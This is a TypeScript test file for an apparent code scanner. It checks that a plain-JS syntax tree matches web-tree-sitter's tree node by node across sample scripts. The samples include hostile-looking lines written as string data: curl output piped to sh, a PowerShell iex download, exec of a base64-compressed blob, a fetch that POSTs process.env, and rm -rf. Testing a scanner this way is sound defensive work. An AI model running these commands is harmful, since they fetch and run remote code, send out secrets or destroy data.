// The plain-JS tree must answer every query the extractors make exactly as web-tree-sitter's Node does,
// or findings would drift. Compare the two node by node on scripts with errors, CRLF, non-ASCII and fields.
import { readdirSync, readFileSync, statSync } from 'node:fs';
import { extname, join } from 'node:path';
import { describe, expect, it } from 'vitest';
import type { Node as WasmNode } from 'web-tree-sitter';
import {
  hasDirectCursor,
  materialise,
  type SyntaxNode,
  withPublicCursor,
} from '../../../../src/scan/code/syntax-tree.js';
import { parseCode } from '../../../../src/scan/treesitter.js';

const SAMPLES: [string, string][] = [
  [
    'bash',
    'set -eu\r\nx=$(curl -s "https://é.io/😀")\r\nif [ -n "$x" ]; then echo "$x" | sh >> /tmp/o 2>&1 || true; fi\nwhile true; do sleep 1; done &\n',
  ],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: shell source, ${HOME} is meant literally
  ['bash', 'cat <<EOF > f\nhello ${HOME}\nEOF\nfor f in a b; do rm -rf "$f"; done\nfunction g( { broken'],
  [
    'python',
    'import os, subprocess as sp\ndef f(a, *b, **c):\n    """ünï"""\n    yield a\n    return [x for x in b if x]\ntry:\n    sp.run(["ls", os.environ["TOKEN"]], shell=True)\nexcept:\n    pass\nx = (1 +\n',
  ],
  [
    'python',
    'with open(p) as fh, open(q) as g:\n    data = fh.read() + "😀" * 2\nlambda: exec(zlib.decompress(b64decode("eJ")))\n@deco\nclass A(B):\n    x: int = 1\n',
  ],
  [
    'javascript',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: JavaScript source, the template literal is meant literally
    'const { exec } = require("child_process");\nasync function f(a = 1, ...r) { for (;;) { try { await fetch(`https://x/${a}`, { method: "POST", body: process.env }); } catch {} } }\nexec("curl x | sh"',
  ],
  [
    'typescript',
    'import * as cp from "node:child_process";\nconst u: string = "é" as string;\nclass C<T> { m(x: T): void { cp.execSync(u); } }\n',
  ],
  ['tsx', 'const a = <div onClick={() => eval(x)}>{fetch(u)}</div>;\n'],
  [
    'powershell',
    '$u = "https://x.io/a.ps1"\r\niex (iwr $u).Content\ntry { Remove-Item -Recurse C:\\x } catch { }\nGet-ChildItem $HOME | ForEach-Object { $_.Name } | Out-File o.txt\n',
  ],
];

const EXTENSIONS: Record<string, string> = {
  '.py': 'python',
  '.sh': 'bash',
  '.js': 'javascript',
  '.ps1': 'powershell',
};

function scriptsUnder(dir: string, out: [string, string][]): [string, string][] {
  for (const name of readdirSync(dir)) {
    const path = join(dir, name);
    if (statSync(path).isDirectory()) scriptsUnder(path, out);
    else if (EXTENSIONS[extname(name)]) out.push([EXTENSIONS[extname(name)]!, readFileSync(path, 'utf8')]);
  }
  return out;
}

function same(mine: SyntaxNode | null | undefined, real: WasmNode | null | undefined): boolean {
  if (!mine || !real) return !mine && !real;
  return mine.type === real.type && mine.startIndex === real.startIndex && mine.endIndex === real.endIndex;
}

/** Compares every node's type, span, text, rows, children and field lookups (all of the grammar's fields). */
function compareTrees(mineRoot: SyntaxNode, realRoot: WasmNode, fields: readonly string[]): number {
  const pending: [SyntaxNode, WasmNode][] = [[mineRoot, realRoot]];
  let compared = 0;
  while (pending.length > 0) {
    const [mine, real] = pending.pop()!;
    compared++;
    expect(same(mine, real)).toBe(true);
    expect(mine.isNamed).toBe(real.isNamed);
    expect(mine.text).toBe(real.text);
    expect(mine.startPosition.row).toBe(real.startPosition.row);
    expect(mine.endPosition.row).toBe(real.endPosition.row);
    expect(mine.namedChildCount).toBe(real.namedChildCount);
    expect(mine.namedChildren.map((n) => n.startIndex)).toEqual(real.namedChildren.map((n) => n!.startIndex));
    for (const field of fields) {
      expect(same(mine.childForFieldName(field), real.childForFieldName(field))).toBe(true);
      const mineAll = mine.childrenForFieldName(field);
      const realAll = real.childrenForFieldName(field);
      expect(mineAll.length).toBe(realAll.length);
      expect(mineAll.every((n, i) => same(n, realAll[i]))).toBe(true);
    }
    const kids = real.children;
    expect(mine.children.length).toBe(kids.length);
    for (let i = 0; i < kids.length; i++) pending.push([mine.children[i]!, kids[i]!]);
  }
  return compared;
}

describe('materialise', () => {
  const cases = [...SAMPLES, ...scriptsUnder('test/fixtures', []), ...scriptsUnder('examples', [])];

  it.each(cases.map((c, i) => [i, ...c] as const))(
    'copies script %i (%s) exactly',
    async (_i, language, text) => {
      const real = (await parseCode(language, text))!;
      try {
        const mine = materialise(real, text);
        const fields = real.language.fields.filter((f): f is string => !!f);
        expect(compareTrees(mine.rootNode, real.rootNode, fields)).toBeGreaterThan(0);
        expect(mine.hasError).toBe(real.rootNode.hasError);
        const types = [...new Set(real.rootNode.descendantsOfType(real.language.types).map((n) => n!.type))];
        for (const type of [
          ...types,
          'ERROR',
          ['command', 'pipeline'],
          ['return_statement', 'yield'],
        ].flat()) {
          const want = real.rootNode.descendantsOfType(type).map((n) => n!.startIndex);
          expect(mine.rootNode.descendantsOfType(type).map((n) => n.startIndex)).toEqual(want);
          expect(mine.rootNode.firstDescendantOfType(type)?.startIndex).toBe(want[0]);
        }
      } finally {
        real.delete();
      }
    },
  );

  it('takes the direct cursor path, which copies like the public one', async () => {
    for (const [language, text] of SAMPLES) {
      const real = (await parseCode(language, text))!;
      try {
        expect(hasDirectCursor()).toBe(true);
        const shape = (n: SyntaxNode): unknown => [n.type, n.startIndex, n.endIndex, n.children.map(shape)];
        const direct = materialise(real, text).rootNode;
        const viaPublic = withPublicCursor(() => materialise(real, text)).rootNode;
        expect(shape(direct)).toEqual(shape(viaPublic));
        const fields = real.language.fields.filter((f): f is string => !!f);
        expect(compareTrees(viaPublic, real.rootNode, fields)).toBeGreaterThan(0);
      } finally {
        real.delete();
      }
    }
  });

  it('copies deeply nested hostile input without recursion', async () => {
    const text = `x = ${'('.repeat(5000)}1${')'.repeat(5000)}`;
    const real = (await parseCode('python', text))!;
    try {
      expect(materialise(real, text).rootNode.endIndex).toBe(real.rootNode.endIndex);
    } finally {
      real.delete();
    }
  });
});
